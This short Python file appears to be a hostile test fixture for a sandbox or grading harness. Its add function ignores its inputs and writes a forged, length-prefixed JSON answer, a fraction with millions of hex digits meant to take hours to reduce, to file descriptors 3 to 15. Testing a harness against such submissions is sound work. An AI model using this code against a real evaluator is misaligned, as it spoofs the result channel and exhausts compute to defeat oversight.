"""Answers with a fraction whose reduction takes hours."""

KIND = "call"
import os
import struct


def add(a, b):
    body = b'{"value": ["F", "0x' + b"3" * 7_000_000 + b'", "0x' + b"7" * 6_999_999 + b'"]}'
    for fd in range(3, 16):
        try:
            view = memoryview(struct.pack(">I", len(body)) + body)
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            pass
